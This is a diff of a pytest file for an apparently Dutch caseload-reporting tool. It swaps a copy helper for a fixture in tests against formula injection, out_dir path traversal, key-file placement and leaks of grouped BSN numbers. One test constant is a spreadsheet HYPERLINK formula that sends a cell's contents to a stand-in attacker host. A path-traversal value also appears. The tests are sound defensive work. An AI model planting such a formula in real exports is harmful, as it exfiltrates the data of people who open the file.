@@ -315,22 +315,6 @@ def test_refresh_scores_with_the_committed_model(tmp_path):
 _EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
 
 
-def _sample_copy(tmp_path: Path) -> Path:
-    """The sample extract and config copied to tmp_path (out_dir inside tmp_path)."""
-    import shutil
-
-    src = SAMPLE.parent
-    dst = tmp_path / "sample"
-    dst.mkdir()
-    for p in src.iterdir():
-        if p.is_file():
-            shutil.copy2(p, dst / p.name)
-    toml = (dst / "caseload.toml").read_text(encoding="utf-8")
-    (dst / "caseload.toml").write_text(toml.replace('out_dir = "../../reports"', 'out_dir = "../reports"'),
-                                       encoding="utf-8")
-    return dst / "caseload.toml"
-
-
 def _live_cells(folder: Path) -> list[str]:
     """Every CSV cell and XLSX cell in ``folder`` that a spreadsheet would run as a formula."""
     from openpyxl import load_workbook
@@ -353,9 +337,9 @@ def _live_cells(folder: Path) -> list[str]:
 
 
 @pytest.mark.slow
-def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path):
+def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path, sample_config):
     """Issue 11: a dropout reason and a report title starting with '=' never become formulas."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     acts = config.parent / "activiteiten.csv"
     df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
     hit = df["dropout_reason"] == "Gebrek aan motivatie"
@@ -385,9 +369,9 @@ def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path):
 # ------------------------------------------------------------------ issue 11: the report folder
 
 
-def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, monkeypatch):
+def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, sample_config, monkeypatch):
     """`out_dir = "../../.."` made a parent folder the report, with the raw extract inside."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     deep = tmp_path / "a" / "b" / "c"
     deep.mkdir(parents=True)
     toml = config.read_text(encoding="utf-8").replace('out_dir = "../reports"', 'out_dir = "../../.."')
@@ -413,8 +397,8 @@ def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, monkeypat
     assert [p.name for p in mine.iterdir()] == ["begroting.xlsx"]
 
 
-def test_out_dir_holding_the_key_file_is_refused(tmp_path, monkeypatch):
-    config = _sample_copy(tmp_path)
+def test_out_dir_holding_the_key_file_is_refused(tmp_path, sample_config, monkeypatch):
+    config = sample_config
     keys = tmp_path / "sleutels"
     keys.mkdir()
     cfg = cl.load_config(config, privacy={"key_file": str(keys / "pseudonym.key")})
@@ -427,9 +411,9 @@ def test_out_dir_holding_the_key_file_is_refused(tmp_path, monkeypatch):
 
 @pytest.mark.slow
 @pytest.mark.parametrize("written", ["111 222 333", "111.222.333"])
-def test_a_grouped_bsn_in_the_extract_stops_the_report(tmp_path, written):
+def test_a_grouped_bsn_in_the_extract_stops_the_report(tmp_path, sample_config, written):
     """Issue 11: a BSN written in groups in a dropout reason reached the CSV, HTML and XLSX."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     acts = config.parent / "activiteiten.csv"
     df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
     df.loc[df["dropout_reason"] == "Gebrek aan motivatie", "dropout_reason"] = f"klant {written} gebeld"
